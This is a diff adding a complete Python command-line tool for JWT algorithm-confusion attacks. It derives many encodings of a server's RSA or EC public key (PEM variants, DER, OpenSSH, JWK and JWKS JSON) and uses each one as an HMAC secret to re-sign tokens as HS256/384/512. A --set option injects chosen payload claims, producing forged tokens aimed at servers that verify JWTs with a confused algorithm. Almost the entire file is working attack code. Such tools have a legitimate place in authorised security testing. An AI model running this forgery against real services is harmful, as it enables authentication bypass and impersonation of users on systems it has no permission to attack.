@@ -0,0 +1,257 @@
+#!/usr/bin/env python3
+import argparse
+import hmac
+import json
+import sys
+from functools import lru_cache
+from typing import Any, Dict, Iterable, Iterator, List, NamedTuple, Optional, Tuple
+from jwt_decoder import HMAC_DIGESTS, JWTDecoder
+from jwt_encoder import b64url_encode
+from jwt_token import Token
+
+# Distinct public keys whose derived secrets are kept
+MAX_CACHED_KEYS = 32
+
+
+class KeyVariant(NamedTuple):
+    name: str
+    secret: bytes
+
+
+def _text_variants(label: str, pem: bytes) -> List[Tuple[str, bytes]]:
+    """
+    Whitespace and line-ending spellings of a PEM document
+    """
+    lines = pem.strip().split(b"\n")
+    body = b"".join(lines[1:-1])
+    return [
+        (f"{label} PEM", pem),
+        (f"{label} PEM without trailing newline", pem.rstrip(b"\n")),
+        (f"{label} PEM with extra trailing newline", pem + b"\n"),
+        (f"{label} PEM with CRLF", pem.replace(b"\n", b"\r\n")),
+        (f"{label} PEM with CRLF, no trailing newline", pem.rstrip(b"\n").replace(b"\n", b"\r\n")),
+        (f"{label} PEM on one line", b"".join(lines)),
+        (f"{label} base64 body", body),
+    ]
+
+
+@lru_cache(maxsize=MAX_CACHED_KEYS)
+def _derive(spki_der: bytes, provided: Optional[bytes]) -> Tuple[KeyVariant, ...]:
+    """
+    Every encoding of a public key a server might hand to HMAC as its secret,
+    without duplicates; cached per key (and per original file contents)
+    """
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+    from key_pool import public_jwk
+
+    public_key = serialization.load_der_public_key(spki_der)
+    Encoding, PublicFormat = serialization.Encoding, serialization.PublicFormat
+
+    candidates: List[Tuple[str, bytes]] = []
+    if provided is not None:
+        candidates.append(("key file as provided", provided))
+        candidates.append(("key file stripped", provided.strip()))
+
+    candidates += _text_variants("SPKI", public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
+    if isinstance(public_key, rsa.RSAPublicKey):
+        candidates += _text_variants("PKCS1", public_key.public_bytes(Encoding.PEM, PublicFormat.PKCS1))
+    candidates.append(("SPKI DER", spki_der))
+    if isinstance(public_key, rsa.RSAPublicKey):
+        candidates.append(("PKCS1 DER", public_key.public_bytes(Encoding.DER, PublicFormat.PKCS1)))
+
+    try:
+        openssh = public_key.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
+        candidates += [("OpenSSH", openssh), ("OpenSSH with trailing newline", openssh + b"\n")]
+    except ValueError:
+        pass
+
+    try:
+        jwk = public_jwk(public_key)
+    except ValueError:
+        jwk = None
+    if jwk is not None:
+        candidates += [
+            ("JWK JSON", json.dumps(jwk).encode()),
+            ("JWK JSON compact", json.dumps(jwk, separators=(",", ":")).encode()),
+            ("JWK JSON compact, sorted keys", json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode()),
+            ("JWK JSON indented", json.dumps(jwk, indent=2).encode()),
+            ("JWKS JSON", json.dumps({"keys": [jwk]}).encode()),
+            ("JWKS JSON compact", json.dumps({"keys": [jwk]}, separators=(",", ":")).encode()),
+        ]
+
+    seen = set()
+    variants = []
+    for name, secret in candidates:
+        if secret and secret not in seen:
+            seen.add(secret)
+            variants.append(KeyVariant(name, secret))
+    return tuple(variants)
+
+
+def key_variants(source: Any) -> Tuple[KeyVariant, ...]:
+    """
+    HMAC secret candidates for a public key given as PEM/DER/JWK data, a
+    parsed key, or a private key (whose public half is used)
+    """
+    from cryptography.hazmat.primitives import serialization
+    from key_cache import key_registry
+
+    provided = None
+    key = key_registry.resolve(source)
+    if hasattr(key, "public_key"):
+        key = key.public_key()
+    elif isinstance(source, (str, bytes)):
+        # The exact bytes of a public key file are what a server most likely reads
+        provided = source.encode('utf-8') if isinstance(source, str) else source
+    spki_der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
+    return _derive(spki_der, provided)
+
+
+def load_key_variants(path: str) -> Tuple[KeyVariant, ...]:
+    """
+    key_variants for a key file, keeping its exact bytes as a variant too
+    """
+    with open(path, 'rb') as f:
+        return key_variants(f.read())
+
+
+def _segment(data: Dict[str, Any]) -> bytes:
+    return b64url_encode(json.dumps(data, separators=(",", ":")).encode())
+
+
+class AlgConfusion:
+    def __init__(self, variants: Iterable[KeyVariant]):
+        """
+        Sign or check HS tokens with every encoding of a public key as the secret
+        """
+        self.variants = list(variants)
+        # Keyed HMAC states, forked per signing input
+        self._keyed: Dict[Tuple[int, str], Any] = {}
+
+    @classmethod
+    def from_key(cls, source: Any) -> "AlgConfusion":
+        return cls(key_variants(source))
+
+    def _mac(self, index: int, digest_name: str) -> Any:
+        keyed = self._keyed.get((index, digest_name))
+        if keyed is None:
+            keyed = self._keyed[(index, digest_name)] = hmac.new(self.variants[index].secret,
+                                                                  digestmod=digest_name)
+        return keyed.copy()
+
+    def signatures(self, signing_input: bytes, algorithm: str) -> Iterator[Tuple[KeyVariant, bytes]]:
+        """
+        Yield (variant, HMAC signature) for every variant
+        """
+        if algorithm not in HMAC_DIGESTS:
+            raise ValueError(f"Expected one of {', '.join(HMAC_DIGESTS)}, got {algorithm}")
+        digest_name = HMAC_DIGESTS[algorithm]
+        for index, variant in enumerate(self.variants):
+            mac = self._mac(index, digest_name)
+            mac.update(signing_input)
+            yield variant, mac.digest()
+
+    def forge(self, token: Any, algorithms: Iterable[str] = ("HS256",),
+              claims: Optional[Dict[str, Any]] = None) -> Iterator[Tuple[str, str, str]]:
+        """
+        Re-sign a token as HS for every variant and algorithm. Only the header
+        is re-encoded unless claims are given, so the payload keeps its bytes.
+        Yields (variant name, algorithm, token).
+        """
+        token = Token.coerce(token)
+        if claims:
+            payload_segment = _segment({**token.payload, **claims})
+        else:
+            payload_segment = token.payload_segment
+
+        for algorithm in algorithms:
+            signing_input = _segment({**token.header, "alg": algorithm}) + b"." + payload_segment
+            prefix = signing_input.decode('ascii') + "."
+            for variant, signature in self.signatures(signing_input, algorithm):
+                yield variant.name, algorithm, prefix + b64url_encode(signature).decode('ascii')
+
+    def identify(self, token: Any) -> Optional[KeyVariant]:
+        """
+        The variant an HS-signed token was signed with, if any
+        """
+        token = Token.coerce(token)
+        expected = token.signature
+        for variant, signature in self.signatures(token.signing_input, token.algorithm):
+            if hmac.compare_digest(signature, expected):
+                return variant
+        return None
+
+
+def _parse_claims(assignments: List[str]) -> Dict[str, Any]:
+    from input_handler import InputHandler
+    claims = {}
+    for assignment in assignments:
+        name, separator, value = assignment.partition('=')
+        if not separator or not name:
+            raise ValueError(f"Expected NAME=VALUE, got '{assignment}'")
+        claims[name] = InputHandler.parse_field_value(value)
+    return claims
+
+
+def main(argv: Optional[List[str]] = None) -> int:
+    parser = argparse.ArgumentParser(
+        description="Algorithm confusion: re-sign an RS/ES token as HS using encodings of the public key as secret")
+    parser.add_argument("token", help="JWT to re-sign (or, with --identify, an HS token to check)")
+    parser.add_argument("-k", "--public-key", required=True, help="Public key file (PEM, DER or JWK)")
+    parser.add_argument("-a", "--algorithm", action="append", choices=sorted(HMAC_DIGESTS),
+                        help="HS algorithm to sign with, may be repeated (default: HS256)")
+    parser.add_argument("--set", action="append", default=[], metavar="NAME=VALUE",
+                        help="Set a payload claim in the forged tokens")
+    parser.add_argument("--identify", action="store_true",
+                        help="Report which key encoding an HS-signed token was signed with")
+    parser.add_argument("--list", action="store_true", help="List the derived key encodings and exit")
+    parser.add_argument("--tokens-only", action="store_true", help="Print bare tokens instead of NDJSON")
+    args = parser.parse_args(argv)
+
+    try:
+        confusion = AlgConfusion(load_key_variants(args.public_key))
+    except (OSError, ValueError) as e:
+        print(f"Error: {e}", file=sys.stderr)
+        return 2
+
+    if args.list:
+        for variant in confusion.variants:
+            print(f"{len(variant.secret):6d}  {variant.name}")
+        return 0
+
+    try:
+        token = Token(args.token)
+        if args.identify:
+            variant = confusion.identify(token)
+            if variant is None:
+                print("Signed with none of the key encodings", file=sys.stderr)
+                return 1
+            print(variant.name)
+            return 0
+
+        if token.algorithm not in HMAC_DIGESTS and token.algorithm != 'none':
+            from key_cache import key_registry
+            try:
+                key = key_registry.load_file(args.public_key)
+                verified = JWTDecoder.verify_signature(token, key.public_key() if hasattr(key, "public_key") else key)
+            except ValueError:
+                verified = False
+            if not verified:
+                print("Warning: the public key does not verify the original token", file=sys.stderr)
+
+        for name, algorithm, forged in confusion.forge(token, args.algorithm or ["HS256"], _parse_claims(args.set)):
+            if args.tokens_only:
+                print(forged)
+            else:
+                print(json.dumps({"description": f"{algorithm} with {name} as secret", "token": forged}))
+    except ValueError as e:
+        print(f"Error: {e}", file=sys.stderr)
+        return 2
+    except BrokenPipeError:
+        pass
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())